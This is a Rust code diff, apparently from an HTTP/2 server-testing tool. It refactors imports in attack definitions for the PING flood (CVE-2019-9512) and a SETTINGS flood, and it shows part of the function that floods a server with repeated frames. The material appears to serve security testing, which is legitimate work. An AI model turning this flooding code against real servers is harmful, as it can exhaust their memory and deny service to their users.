@@ -3,8 +3,8 @@
 use super::super::Attack;
 use super::super::ground::Ground;
 use super::super::outcome::{Evidence, Findings, Mark};
-use super::frame::{self, frame, setting};
 use super::link::Link;
+use keel_wire::http2::{self, frame, setting};
 
 /// Answers unread at which a server counts as keeping them without a limit, in bytes: kernels keep at most some 10 MiB.
 const UNREAD: usize = 24 << 20;
@@ -19,7 +19,7 @@ pub(in super::super) const PING: Attack = Attack {
     source: "CVE-2019-9512",
     correct: "the connection is ended, or no more is read while answers cannot be sent, or they are not kept",
     memory: None,
-    launch: |ground| Box::pin(flood(ground, frame::PING, &[0; 8])),
+    launch: |ground| Box::pin(flood(ground, http2::PING, &[0; 8])),
 };
 
 pub(in super::super) const SETTINGS: Attack = Attack {
@@ -32,14 +32,14 @@ pub(in super::super) const SETTINGS: Attack = Attack {
 };
 
 async fn launch_settings(ground: &Ground<'_>) -> Findings {
-    flood(ground, frame::SETTINGS, &setting(frame::INITIAL_WINDOW_SIZE, 65_535)).await
+    flood(ground, http2::SETTINGS, &setting(http2::INITIAL_WINDOW_SIZE, 65_535)).await
 }
 
 async fn flood(ground: &Ground<'_>, kind: u8, payload: &[u8]) -> Findings {
     let mut link = Link::open(ground, &[], true).await?;
     let one = frame(kind, 0, 0, payload);
     // An acknowledgement of settings carries no payload, that of a ping the same.
-    let answer = if kind == frame::SETTINGS { frame::HEAD } else { one.len() };
+    let answer = if kind == http2::SETTINGS { http2::HEAD } else { one.len() };
     let piece = one.repeat(PIECE / one.len());
     let each = PIECE / one.len();
     let (mut sent, mut going) = (0, true);
